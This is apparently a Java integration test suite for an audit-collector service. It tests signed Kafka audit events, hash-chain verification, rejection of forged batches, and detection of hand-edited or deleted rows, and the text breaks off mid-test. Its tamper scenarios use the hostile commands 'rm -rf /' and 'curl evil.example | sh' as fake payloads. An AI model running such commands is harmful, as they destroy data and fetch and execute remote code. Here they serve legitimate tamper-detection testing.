package io.gitcrq.audit;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.notNullValue;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.startsWith;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.gitcrq.audit.repository.AuditEventRepository;
import io.gitcrq.audit.service.ChainBackfill;
import io.gitcrq.kafka.KafkaBrokerTestResource;
import io.gitcrq.kafka.TopicProbe;
import io.gitcrq.kit.db.SqlTimes;
import io.gitcrq.kit.testing.FreshDatabaseTestResource;
import io.gitcrq.model.api.audit.AuditPage;
import io.gitcrq.model.api.audit.ChainVerification;
import io.gitcrq.model.api.audit.TimelinePage;
import io.gitcrq.model.audit.AgentToolCall;
import io.gitcrq.model.audit.GovernanceChange;
import io.gitcrq.model.chain.AuditSignature;
import io.gitcrq.model.chain.ChainHash;
import io.gitcrq.model.chain.ExportVerifier;
import io.gitcrq.model.event.AgentToolCalled;
import io.gitcrq.model.event.AuditBatchCaptured;
import io.gitcrq.model.event.AuditCaptured;
import io.gitcrq.model.event.BranchCreated;
import io.gitcrq.model.event.BranchMerged;
import io.gitcrq.model.event.BrokerCredentials;
import io.gitcrq.model.event.CheckReported;
import io.gitcrq.model.event.CloudEvent;
import io.gitcrq.model.event.CommitPushed;
import io.gitcrq.model.event.CrqApproved;
import io.gitcrq.model.event.CrqCreated;
import io.gitcrq.model.event.CrqStatusChanged;
import io.gitcrq.model.event.DomainEvent;
import io.gitcrq.model.event.EventCodec;
import io.gitcrq.model.event.EventType;
import io.gitcrq.model.event.ExecFinished;
import io.gitcrq.model.event.ExecRequested;
import io.gitcrq.model.event.GitPerson;
import io.gitcrq.model.event.MergeSettingsChanged;
import io.gitcrq.model.event.MergeWaiting;
import io.gitcrq.model.event.RepoPolicyChanged;
import io.gitcrq.model.event.RepoUnwatched;
import io.gitcrq.model.event.TopicAccess;
import io.gitcrq.model.event.Topics;
import io.gitcrq.model.event.WebhookSettingsChanged;
import io.gitcrq.model.signature.Ed25519;
import io.gitcrq.testsupport.metrics.Scrape;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import io.restassured.response.ValidatableResponse;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import jakarta.transaction.Transactional;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicLong;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.StringSerializer;
import org.junit.jupiter.api.Test;

/** audit-collector against a real broker and a real PostgreSQL database of its own. */
@QuarkusTest
@QuarkusTestResource(KafkaBrokerTestResource.class)
@QuarkusTestResource(value = FreshDatabaseTestResource.class, initArgs = @ResourceArg(name = "prefix", value = "audit"))
@QuarkusTestResource(RetentionConfigTestResource.class)
class AuditCollectorIT {

    private static final Duration WAIT = Duration.ofSeconds(30);
    private static final Instant BASE = Instant.parse("2024-05-01T10:00:00Z");

    @Inject
    EntityManager em;

    @Inject
    ChainBackfill backfill;

    @Inject
    AuditEventRepository auditEvents;

    /** Sends audit events as exec-agent (ACLs apply). */
    private final TopicProbe topics = KafkaBrokerTestResource.execAgentProbe();
    // Dead letters are read by the broker's administrator.
    private final TopicProbe operator = KafkaBrokerTestResource.probe(BrokerCredentials.ADMIN);

    private static RequestSpecification as(String user) {
        return given().auth().preemptive().basic(user, user);
    }

    /** Each test files its events under CRQs and hosts of its own, so tests never see each other's rows. */
    /**
     * The answer is exactly what the shared API record {@code type} writes (the shape the CLI reads and its tests'
     * samples are written in): no field more or less, times written alike.
     */
    private static void assertWrittenAs(String body, Class<?> type) {
        try {
            JsonNode sent = EventCodec.mapper().readTree(body);
            Object read = EventCodec.mapper().readValue(body, type);
            assertThat(EventCodec.mapper().readTree(EventCodec.mapper().writeValueAsString(read)))
                    .isEqualTo(sent);
        } catch (JsonProcessingException e) {
            throw new AssertionError("not a " + type.getSimpleName() + ": " + body, e);
        }
    }

    private static String freshCrq() {
        return "CRQ-" + ThreadLocalRandom.current().nextLong(1_000_000, 1_000_000_000);
    }

    private static ObjectNode payload(String command) {
        return EventCodec.mapper().createObjectNode().put("command", command).put("exitCode", 0);
    }

    /** The key the tests' hosts sign with (registered for each host a test sends events of). */
    private static final KeyPair HOST_KEY = Ed25519.generate();

    private static final Map<String, AtomicLong> HOST_SEQS = new ConcurrentHashMap<>();
    private static final Set<String> REGISTERED = ConcurrentHashMap.newKeySet();

    private static String pem(KeyPair key) {
        return Ed25519.publicKeyPem(key.getPublic());
    }

    private static String keyId(KeyPair key) {
        return Ed25519.fingerprint(key.getPublic());
    }

    /** Registers the tests' host key for the host (once), as an admin. */
    private static void registerHostKey(String host) {
        if (REGISTERED.add(host)) {
            register(host, HOST_KEY);
        }
    }

    /** {@code key} registered for {@code host} by an admin (201). */
    private static ValidatableResponse register(String host, KeyPair key) {
        return as("admin")
                .contentType("application/json")
                .body(Map.of("host", host, "publicKey", pem(key)))
                .post("/audit/hosts")
                .then()
                .statusCode(201);
    }

    private static long nextHostSeq(String host) {
        return HOST_SEQS.computeIfAbsent(host, h -> new AtomicLong()).incrementAndGet();
    }

    /** The event as its host publishes it: numbered and signed, with the host's key registered. */
    private static AuditCaptured signed(AuditCaptured event) {
        registerHostKey(event.host());
        return AuditSignature.sign(event, nextHostSeq(event.host()), HOST_KEY.getPrivate(), keyId(HOST_KEY));
    }

    /** An AuditCaptured as exec-agent sends it: numbered and signed, keyed by host, on the audit topic. */
    private CloudEvent send(String host, String crq, String kind, Instant occurredAt, JsonNode payload) {
        CloudEvent envelope = EventCodec.envelope(
                "exec-agent/" + host, signed(new AuditCaptured(host, crq, kind, occurredAt, payload)));
        topics.send(Topics.AUDIT_EVENTS, host, EventCodec.toJson(envelope));
        return envelope;
    }

    /** The host's chain as alice exports it, one line per event. */
    private static List<String> exportLines(String host) {
        return as("alice")
                .get("/audit/export?host=" + host)
                .then()
                .statusCode(200)
                .extract()
                .asString()
                .lines()
                .toList();
    }

    private static void awaitTotal(String query, int total) {
        await().atMost(WAIT)
                .untilAsserted(() -> as("alice")
                        .get("/audit?" + query)
                        .then()
                        .statusCode(200)
                        .body("total", equalTo(total)));
    }

    @Test
    void anEventOfTheHostsOwnTrailNamingNoCrqIsChainedAndExportedWithTheHostsOthers() {
        // exec-agent audits a request refused without a CRQ it knows on its own trail: crqId null.
        String crq = freshCrq();
        String host = "own-trail-" + UUID.randomUUID();
        registerHostKey(host);
        send(host, crq, "exec", BASE, payload("make test"));
        send(
                host,
                null,
                "exec-refused",
                BASE.plusSeconds(1),
                EventCodec.mapper()
                        .createObjectNode()
                        .put("execId", "refused-1")
                        .put("reason", "CRQ-999 is not known")
                        .put("crqId", "CRQ-999"));
        send(host, crq, "exec", BASE.plusSeconds(2), payload("make check"));
        awaitTotal("host=" + host, 3);
        assertThat(texts("SELECT coalesce(crq_id, 'null') FROM audit_event WHERE host = '" + host
                        + "' ORDER BY sequence"))
                .containsExactly(crq, "null", crq);
        as("alice")
                .get("/audit/verify?host=" + host)
                .then()
                .body("ok", equalTo(true))
                .body("verified", equalTo(3));
        List<String> lines = exportLines(host);
        assertThat(lines).hasSize(3);
        assertThat(lines.get(1)).contains("\"crqId\":null").contains("exec-refused");
        assertThat(new ExportVerifier(Map.of(host, HOST_KEY.getPublic()), null)
                        .verify(lines)
                        .problems())
                .isEmpty();
        // No CRQ's timeline shows it.
        awaitTotal("crq=" + crq, 2);
    }

    @Test
    void eachEventOfABatchSignedOnceIsCheckedAloneAndOneChangedIsRefused() {
        String crq = freshCrq();
        String host = "batch-" + UUID.randomUUID();
        registerHostKey(host);
        List<AuditCaptured> batch = new ArrayList<>();
        for (int i = 1; i <= 5; i++) {
            batch.add(new AuditCaptured(host, crq, "exec", BASE.plusSeconds(i), payload("step " + i)));
        }
        List<AuditCaptured> signed = AuditSignature.signBatch(batch, 1, HOST_KEY.getPrivate(), keyId(HOST_KEY));
        for (int i = 0; i < 3; i++) {
            topics.send(
                    Topics.AUDIT_EVENTS,
                    host,
                    EventCodec.toJson(EventCodec.envelope("exec-agent/" + host, signed.get(i))));
        }
        // Event 4 with another payload, under the batch's signature and its own audit path: not what the host signed.
        AuditCaptured genuine = signed.get(3);
        CloudEvent changed = EventCodec.envelope(
                "exec-agent/" + host,
                new AuditCaptured(
                        host,
                        crq,
                        "exec",
                        genuine.occurredAt(),
                        payload("rm -rf /"),
                        genuine.hostSeq(),
                        genuine.keyId(),
                        genuine.signature(),
                        genuine.batchFirstSeq(),
                        genuine.batchSize(),
                        genuine.batchProof()));
        topics.send(Topics.AUDIT_EVENTS, host, EventCodec.toJson(changed));
        for (int i = 3; i < 5; i++) {
            topics.send(
                    Topics.AUDIT_EVENTS,
                    host,
                    EventCodec.toJson(EventCodec.envelope("exec-agent/" + host, signed.get(i))));
        }
        awaitTotal("host=" + host, 5);
        assertThat(texts("SELECT payload->>'command' FROM audit_event WHERE host = '" + host + "' ORDER BY sequence"))
                .containsExactly("step 1", "step 2", "step 3", "step 4", "step 5");
        await().atMost(WAIT)
                .untilAsserted(() -> assertThat(as("bob")
                                .get("/audit/rejections?size=500")
                                .then()
                                .extract()
                                .jsonPath()
                                .getString("latest.find { it.eventId == '" + changed.id() + "' }.reason"))
                        .contains("does not verify"));
        as("alice")
                .get("/audit/verify?host=" + host)
                .then()
                .body("ok", equalTo(true))
                .body("verified", equalTo(5));
        // The export keeps what checks each event alone, and the offline verifier does.
        List<String> lines = exportLines(host);
        assertThat(lines.get(1)).contains("\"batchFirstSeq\":1").contains("\"batchSize\":5");
        ExportVerifier.Result offline = new ExportVerifier(Map.of(host, HOST_KEY.getPublic()), null).verify(lines);
        assertThat(offline.problems()).isEmpty();
        assertThat(offline.unchecked()).isEmpty();
        assertThat(offline.events()).isEqualTo(5);
    }

    @Test
    void aHostsSignedBatchRecordIsStoredAsItsEventsAndOneWithAnEventChangedOrAnotherHostsKeyIsRefusedWhole() {
        String crq = freshCrq();
        String host = "batch-record-" + UUID.randomUUID();
        String other = "batch-other-" + UUID.randomUUID();
        registerHostKey(host);
        KeyPair otherKey = Ed25519.generate();
        register(other, otherKey);
        Scrape before = scrape();

        AuditBatchCaptured first = sendBatch(host, crq, 1, HOST_KEY, "a 1", "a 2", "a 3", "a 4");
        // The next batch with one event changed after signing: none of its events is what the host signed.
        AuditBatchCaptured signed = AuditSignature.signBatchRecord(
                events(host, crq, "b 1", "b 2"), 5, HOST_KEY.getPrivate(), keyId(HOST_KEY));
        List<AuditBatchCaptured.Entry> entries = new ArrayList<>(signed.events());
        AuditBatchCaptured.Entry genuine = entries.get(1);
        entries.set(
                1,
                new AuditBatchCaptured.Entry(
                        genuine.eventId(), crq, "exec", genuine.occurredAt(), payload("curl evil.example | sh")));
        AuditBatchCaptured changed =
                new AuditBatchCaptured(host, signed.keyId(), signed.firstSeq(), signed.signature(), entries);
        CloudEvent changedEnvelope = EventCodec.envelope("exec-agent/" + host, changed);
        topics.send(Topics.AUDIT_EVENTS, host, EventCodec.toJson(changedEnvelope));
        // Another host's key, claiming this host: refused too.
        AuditBatchCaptured foreign = sendBatch(host, crq, 5, otherKey, "c 1");
        AuditBatchCaptured last = sendBatch(host, crq, 5, HOST_KEY, "d 1", "d 2");

        awaitTotal("host=" + host, 6);
        assertThat(texts("SELECT payload->>'command' FROM audit_event WHERE host = '" + host + "' ORDER BY sequence"))
                .containsExactly("a 1", "a 2", "a 3", "a 4", "d 1", "d 2");
        List<String> numbered = new ArrayList<>();
        for (AuditBatchCaptured.Entry e : first.events()) {
            numbered.add(e.eventId() + " " + (numbered.size() + 1));
        }
        for (AuditBatchCaptured.Entry e : last.events()) {
            numbered.add(e.eventId() + " " + (numbered.size() + 1));
        }
        assertThat(texts("SELECT event_id || ' ' || host_seq FROM audit_event WHERE host = '" + host
                        + "' ORDER BY sequence"))
                .as("each event under its own id, numbered from its batch's first number")
                .containsExactlyElementsOf(numbered);
        as("alice")
                .get("/audit/verify?host=" + host)
                .then()
                .body("ok", equalTo(true))
                .body("verified", equalTo(6));
        // Each stored event carries its audit path, computed from the batch: the export is checked offline alone.
        List<String> lines = exportLines(host);
        ExportVerifier.Result offline = new ExportVerifier(Map.of(host, HOST_KEY.getPublic()), null).verify(lines);
        assertThat(offline.problems()).isEmpty();
        assertThat(offline.unchecked()).isEmpty();
        assertThat(offline.events()).isEqualTo(6);

        // Each refused record dead-lettered once, each of its events refused, counted and recorded.
        assertThat(operator.awaitAll(
                        Topics.deadLetter("audit-collector"), v -> v.contains(changedEnvelope.id()), 1, WAIT))
                .hasSize(1);
        assertThat(operator.awaitAll(
                        Topics.deadLetter("audit-collector"),
                        v -> v.contains(foreign.events().get(0).eventId()),
                        1,
                        WAIT))
                .hasSize(1);
        JsonPath rejections = rejections();
        for (AuditBatchCaptured.Entry e : changed.events()) {
            assertThat(rejections.getString("latest.find { it.eventId == '" + e.eventId() + "' }.reason"))
                    .contains("does not verify");
        }
        assertThat(rejections.getString("latest.find { it.eventId == '"
                        + foreign.events().get(0).eventId() + "' }.reason"))
                .contains("another host (" + other + ")");
        assertRejectedMore(before, scrape(), "bad_signature", "foreign_key");
    }

    /** Events of {@code host} with these commands, a second apart. */
    private static List<AuditCaptured> events(String host, String crq, String... commands) {
        List<AuditCaptured> events = new ArrayList<>();
        for (int i = 0; i < commands.length; i++) {
            events.add(new AuditCaptured(host, crq, "exec", BASE.plusSeconds(i), payload(commands[i])));
        }
        return events;
    }

    /** A batch record as exec-agent sends it: numbered from {@code firstSeq}, signed with {@code key}. */
    private AuditBatchCaptured sendBatch(String host, String crq, long firstSeq, KeyPair key, String... commands) {
        AuditBatchCaptured batch =
                AuditSignature.signBatchRecord(events(host, crq, commands), firstSeq, key.getPrivate(), keyId(key));
        topics.send(Topics.AUDIT_EVENTS, host, EventCodec.toJson(EventCodec.envelope("exec-agent/" + host, batch)));
        return batch;
    }

    @Test
    void anEventDeliveredTwiceIsStoredOnceWithItsPayload() {
        String crq = freshCrq();
        String host = "host-" + UUID.randomUUID();
        CloudEvent envelope = EventCodec.envelope(
                "exec-agent/" + host,
                signed(new AuditCaptured(
                        host, crq.toLowerCase(Locale.ROOT), AuditCaptured.KIND_EXEC, BASE, payload("ls -l /etc"))));
        String record = EventCodec.toJson(envelope);
        topics.send(Topics.AUDIT_EVENTS, host, record);
        topics.send(Topics.AUDIT_EVENTS, host, record); // a redelivery: same envelope, same id
        // A later event of the same host: once it is stored, the redelivery before it has been handed to the
        // writers too (whose insert could not add a second row anyway: the event id is the key).
        CloudEvent later = send(host, crq, "keystroke", BASE.plusSeconds(60), payload("exit"));
        await().atMost(WAIT)
                .untilAsserted(
                        () -> as("alice").get("/audit/" + later.id()).then().statusCode(200));

        awaitTotal("crq=" + crq + "&kind=exec", 1);
        as("bob")
                .get("/audit?crq=" + crq + "&kind=exec")
                .then()
                .statusCode(200)
                .body("items[0].eventId", equalTo(envelope.id()))
                .body("items[0].host", equalTo(host))
                .body("items[0].crqId", equalTo(crq)) // filed under the printed CRQ id, however the source spelled it
                .body("items[0].kind", equalTo("exec"))
                .body("items[0].occurredAt", equalTo("2024-05-01T10:00:00Z"))
                .body("items[0].payload.command", equalTo("ls -l /etc"))
                .body("items[0].payload.exitCode", equalTo(0));
        as("alice")
                .get("/audit/" + envelope.id())
                .then()
                .statusCode(200)
                .body("eventId", equalTo(envelope.id()))
                .body("payload.command", equalTo("ls -l /etc"));

        assertThat(count("SELECT count(*) FROM audit_event WHERE event_id = '" + envelope.id() + "'"))
                .isEqualTo(1);
        assertThat(text("SELECT payload->>'command' || ' from ' || source FROM audit_event WHERE event_id = '"
                        + envelope.id() + "'"))
                .isEqualTo("ls -l /etc from exec-agent/" + host);
    }

    @Test
    void searchesFilterByCrqHostKindAndTimeNewestFirstAndPage() {
        String crq = freshCrq();
        String other = freshCrq();
        String hostA = "a-" + UUID.randomUUID();
        String hostB = "b-" + UUID.randomUUID();
        // Five events of one CRQ, a minute apart, sent oldest last: the order on the topic is not the order shown.
        List<String> ids = new ArrayList<>(List.of("", "", "", "", ""));
        for (int i = 4; i >= 0; i--) {
            ids.set(
                    i,
                    send(
                                    i % 2 == 0 ? hostA : hostB,
                                    crq,
                                    i % 2 == 0 ? "exec" : "keystroke",
                                    BASE.plusSeconds(60L * i),
                                    payload("step " + i))
                            .id());
        }
        String otherId = send(hostA, other, "exec", BASE.plusSeconds(30), payload("elsewhere"))
                .id();
        awaitTotal("crq=" + crq, 5);
        awaitTotal("crq=" + other, 1);

        as("alice")
                .get("/audit?crq=" + crq)
                .then()
                .statusCode(200)
                .body("items.eventId", equalTo(List.of(ids.get(4), ids.get(3), ids.get(2), ids.get(1), ids.get(0))))
                .body("items[0].occurredAt", equalTo("2024-05-01T10:04:00Z"))
                .body("page", equalTo(0))
                .body("size", equalTo(50));
        assertWrittenAs(as("alice").get("/audit?crq=" + crq).asString(), AuditPage.class);
        as("alice")
                .get("/audit?crq=" + crq + "&page=1&size=2")
                .then()
                .statusCode(200)
                .body("items.eventId", equalTo(List.of(ids.get(2), ids.get(1))))
                .body("page", equalTo(1))
                .body("size", equalTo(2))
                .body("total", equalTo(5));
        as("alice")
                .get("/audit?crq=" + crq + "&page=2&size=2")
                .then()
                .body("items.eventId", equalTo(List.of(ids.get(0))))
                .body("total", equalTo(5));
        as("alice")
                .get("/audit?crq=" + crq + "&page=3&size=2")
                .then()
                .body("items.size()", equalTo(0))
                .body("total", equalTo(5));

        as("alice")
                .get("/audit?host=" + hostA)
                .then()
                .body("items.eventId", equalTo(List.of(ids.get(4), ids.get(2), otherId, ids.get(0))));
        as("alice")
                .get("/audit?host=" + hostA + "&crq=" + crq)
                .then()
                .body("items.eventId", equalTo(List.of(ids.get(4), ids.get(2), ids.get(0))));
        as("alice")
                .get("/audit?crq=" + crq + "&kind=keystroke")
                .then()
                .body("items.eventId", equalTo(List.of(ids.get(3), ids.get(1))))
                .body("total", equalTo(2));
        // from is included, to is not.
        as("alice")
                .get("/audit?crq=" + crq + "&from=2024-05-01T10:01:00Z&to=2024-05-01T10:03:00Z")
                .then()
                .body("items.eventId", equalTo(List.of(ids.get(2), ids.get(1))));
        as("alice")
                .get("/audit?host=" + hostA + "&from=2024-05-01T10:00:00Z&to=2024-05-01T10:01:00Z")
                .then()
                .body("items.eventId", equalTo(List.of(otherId, ids.get(0))));
        as("alice")
                .get("/audit?crq=" + crq + "&host=" + hostB + "&kind=exec")
                .then()
                .body("items.size()", equalTo(0))
                .body("total", equalTo(0));
    }

    @Test
    void unreadableRecordsGoToTheDeadLetterTopicAndConsumptionGoesOn() {
        String marker = "poison-" + UUID.randomUUID();
        String host = "host-" + UUID.randomUUID();
        String crq = freshCrq();
        topics.send(Topics.AUDIT_EVENTS, host, "{" + marker + " is not an event");
        ObjectNode noCrq = (ObjectNode) EventCodec.mapper()
                .valueToTree(EventCodec.envelope(
                        "exec-agent/" + host, new AuditCaptured(host, crq, "exec", BASE, payload(marker))));
        ((ObjectNode) noCrq.get("data")).remove("crqId");
        topics.send(Topics.AUDIT_EVENTS, host, noCrq.toString());
        // A type audit-collector does not know is skipped, not dead-lettered.
        ObjectNode unknown =
                noCrq.deepCopy().put("id", UUID.randomUUID().toString()).put("type", "io.gitcrq.Future.v1");
        topics.send(Topics.AUDIT_EVENTS, host, unknown.toString());
        CloudEvent valid = send(host, crq, "exec", BASE, payload("after the poison"));

        await().atMost(WAIT)
                .untilAsserted(() -> as("alice")
                        .get("/audit?crq=" + crq)
                        .then()
                        .body("total", equalTo(1))
                        .body("items[0].eventId", equalTo(valid.id())));
        List<ConsumerRecord<String, String>> dead =
                operator.awaitAll(Topics.deadLetter("audit-collector"), v -> v.contains(marker), 2, WAIT);
        assertThat(dead)
                .extracting(ConsumerRecord::value)
                .anyMatch(v -> v.startsWith("{" + marker))
                .anyMatch(v -> v.contains(noCrq.get("id").asText()))
                .noneMatch(v -> v.contains(unknown.get("id").asText()));
        assertThat(count("SELECT count(*) FROM audit_event WHERE host = '" + host + "'"))
                .isEqualTo(1);
    }

    @Test
    void badQueriesAnswerWithProblemBodies() {
        for (String query : List.of(
                "size=0",
                "size=501",
                "size=ten",
                "page=-1",
                "from=yesterday",
                "to=2024-05-01",
                "from=2024-05-02T00:00:00Z&to=2024-05-01T00:00:00Z",
                "crq=nonsense",
                "crq=CRQ-0")) {
            as("alice")
                    .get("/audit?" + query)
                    .then()
                    .statusCode(400)
                    .contentType("application/problem+json")
                    .body("status", equalTo(400))
                    .body("detail", containsString(query.substring(0, query.indexOf('='))));
        }
        as("alice").get("/audit?size=500&page=0").then().statusCode(200).body("size", equalTo(500));
        as("alice")
                .get("/audit/no-such-event")
                .then()
                .statusCode(404)
                .contentType("application/problem+json")
                .body("detail", containsString("no-such-event"));
        given().get("/audit").then().statusCode(401);
        given().get("/audit/anything").then().statusCode(401);
        given().auth().preemptive().basic("alice", "wrong").get("/audit").then().statusCode(401);
    }

    @Test
    void readyWithoutAnOutboxRelayOrReplicationSlot() {
        await().atMost(WAIT)
                .untilAsserted(() -> given().get("/q/health/ready")
                        .then()
                        .statusCode(200)
                        .body("status", equalTo("UP"))
                        .body("checks.find { it.name == 'outbox-relay' }.data.enabled", equalTo(false)));
        assertThat(count("SELECT count(*) FROM pg_replication_slots WHERE database = current_database()"))
                .isZero();
    }

    // ---------------------------------------------------------------- hash chains

    @Test
    void eachHostsEventsChainWithoutGapsAndARedeliveryDoesNotExtendTheChain() {
        String crq = freshCrq();
        String host = "chain-" + UUID.randomUUID();
        List<String> records = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            records.add(EventCodec.toJson(EventCodec.envelope(
                    "exec-agent/" + host,
                    signed(new AuditCaptured(host, crq, "exec", BASE.plusSeconds(i), payload("step " + i))))));
        }
        sendAll(Topics.AUDIT_EVENTS, host, records); // one batch: the writers store them concurrently
        awaitTotal("host=" + host, 20);

        List<Map<String, Object>> chain = chainOf(host);
        assertThat(chain)
                .extracting(link -> ((Number) link.get("sequence")).longValue())
                .containsExactlyElementsOf(
                        java.util.stream.LongStream.rangeClosed(1, 20).boxed().toList());
        assertThat(chain.get(0).get("prevHash")).isEqualTo("0".repeat(64));
        for (int i = 1; i < chain.size(); i++) {
            assertThat(chain.get(i).get("prevHash")).isEqualTo(chain.get(i - 1).get("hash"));
        }
        String lastHash = (String) chain.get(19).get("hash");
        as("bob")
                .get("/audit/verify?host=" + host)
                .then()
                .statusCode(200)
                .body("ok", equalTo(true))
                .body("host", equalTo(host))
                .body("verified", equalTo(20))
                .body("lastSequence", equalTo(20))
                .body("lastHash", equalTo(lastHash))
                .body("sequence", nullValue())
                .body("checkpointSequence", nullValue());

        // Redeliveries of three stored events, then a new one: the new one is link 21, and stays the last.
        sendAll(Topics.AUDIT_EVENTS, host, records.subList(5, 8));
        CloudEvent next = send(host, crq, "exec", BASE.plusSeconds(100), payload("after the redeliveries"));
        awaitTotal("host=" + host, 21);
        await().during(Duration.ofSeconds(2))
                .atMost(WAIT)
                .until(() -> count("SELECT last_sequence FROM audit_chain_head WHERE host = '" + host + "'") == 21);
        as("alice")
                .get("/audit/" + next.id())
                .then()
                .body("sequence", equalTo(21))
                .body("prevHash", equalTo(lastHash));
        assertThat(count("SELECT count(*) FROM audit_event WHERE host = '" + host + "'"))
                .isEqualTo(21);

        // Every host at once (the other tests leave their chains intact).
        as("admin")
                .get("/audit/verify")
                .then()
                .statusCode(200)
                .body("ok", equalTo(true))
                .body("host", nullValue())
                .body("hosts.find { it.host == '" + host + "' }.verified", equalTo(21));
        assertWrittenAs(as("admin").get("/audit/verify").asString(), ChainVerification.class);
    }

    /**
     * A burst of one host arrives in a few polls and is stored a batch at a time: still one link per event in the
     * order sent, each duplicate once, and the unreadable records within it dead-lettered alone.
     */
    @Test
    void aBurstIsStoredInBatchesChainedInOrderWithDuplicatesOnceAndItsPoisonDeadLettered() {
        String crq = freshCrq();
        String host = "burst-" + UUID.randomUUID();
        String marker = "burst-poison-" + UUID.randomUUID();
        int n = 1200; // more than one poll (max.poll.records 500)
        List<String> records = new ArrayList<>();
        List<String> sent = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            String record = EventCodec.toJson(EventCodec.envelope(
                    "exec-agent/" + host,
                    signed(new AuditCaptured(host, crq, "exec", BASE.plusMillis(i), payload("step " + i)))));
            records.add(record);
            sent.add(EventCodec.parse(record).id());
            if (i % 100 == 7) {
                records.add(record); // a redelivery right behind it, in the same batch
            }
            if (i % 400 == 13) {
                records.add(records.get(records.size() - 5)); // and one of an event a few before it
            }
            if (i == 600) {
                records.add("{" + marker + " is not an event");
            }
        }
        sendAll(Topics.AUDIT_EVENTS, host, records);
        await().atMost(WAIT).until(() -> count("SELECT count(*) FROM audit_event WHERE host = '" + host + "'") == n);

        assertThat(texts("SELECT event_id FROM audit_event WHERE host = '" + host + "' ORDER BY sequence"))
                .containsExactlyElementsOf(sent);
        assertThat(count("SELECT max(sequence) FROM audit_event WHERE host = '" + host + "'"))
                .isEqualTo(n);
        assertThat(count("SELECT last_sequence FROM audit_chain_head WHERE host = '" + host + "'"))
                .isEqualTo(n);
        as("bob")
                .get("/audit/verify?host=" + host)
                .then()
                .statusCode(200)
                .body("ok", equalTo(true))
                .body("verified", equalTo(n));
        assertThat(operator.awaitAll(Topics.deadLetter("audit-collector"), v -> v.contains(marker), 1, WAIT))
                .hasSize(1);

        // Delivered again later, in a batch of their own: nothing stored twice, the chain not extended.
        sendAll(Topics.AUDIT_EVENTS, host, records.subList(100, 300));
        CloudEvent next = send(host, crq, "exec", BASE.plusSeconds(3600), payload("after the burst"));
        await().atMost(WAIT)
                .untilAsserted(() -> as("alice")
                        .get("/audit/" + next.id())
                        .then()
                        .statusCode(200)
                        .body("sequence", equalTo(n + 1)));
        assertThat(count("SELECT count(*) FROM audit_event WHERE host = '" + host + "'"))
                .isEqualTo(n + 1);
    }

    /** The must-show: a row edited by hand fails verification at exactly that row; a deleted row is caught too. */
    @Test
    void verifyNamesTheRowEditedOrDeletedByHand() {
        String crq = freshCrq();
        String host = "tamper-" + UUID.randomUUID();
        String tail = "tamper-tail-" + UUID.randomUUID();
        try {
            for (int i = 0; i < 5; i++) {
                send(host, crq, "exec", BASE.plusSeconds(i), payload("step " + i));
            }
            for (int i = 0; i < 3; i++) {
                send(tail, crq, "exec", BASE.plusSeconds(i), payload("tail " + i));
            }
            awaitTotal("host=" + host, 5);
            awaitTotal("host=" + tail, 3);
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .body("ok", equalTo(true))
                    .body("verified", equalTo(5));
            List<Map<String, Object>> chain = chainOf(host);
            Map<String, Object> third = chain.get(2);
            String thirdId = (String) third.get("eventId");
            String thirdCommand =
                    text("SELECT payload->>'command' FROM audit_event WHERE event_id = '" + thirdId + "'");

            // An UPDATE of one stored payload: verification stops at that row, and only there.
            update("UPDATE audit_event SET payload = jsonb_set(payload, '{command}', '\"rm -rf /\"') "
                    + "WHERE event_id = '" + thirdId + "'");
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("host", equalTo(host))
                    .body("sequence", equalTo(3))
                    .body("eventId", equalTo(thirdId))
                    .body("reason", equalTo("row changed"))
                    .body("storedHash", equalTo(third.get("hash")))
                    .body("expectedHash", not(equalTo(third.get("hash"))))
                    .body("verified", equalTo(2));
            // Over all hosts, the first broken link is the same one.
            as("alice")
                    .get("/audit/verify")
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("host", equalTo(host))
                    .body("eventId", equalTo(thirdId));
            // Put back exactly as it was, the chain verifies again: the hash saw that edit and nothing else.
            update("UPDATE audit_event SET payload = jsonb_set(payload, '{command}', '\"" + thirdCommand + "\"') "
                    + "WHERE event_id = '" + thirdId + "'");
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .body("ok", equalTo(true))
                    .body("verified", equalTo(5));

            // A row deleted from the middle: the missing sequence is named, with the hash it had.
            Map<String, Object> second = chain.get(1);
            update("DELETE FROM audit_event WHERE event_id = '" + second.get("eventId") + "'");
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("sequence", equalTo(2))
                    .body("eventId", nullValue())
                    .body("reason", equalTo("row missing"))
                    .body("expectedHash", equalTo(second.get("hash")))
                    .body("detail", containsString((String) chain.get(2).get("eventId")))
                    .body("verified", equalTo(1));

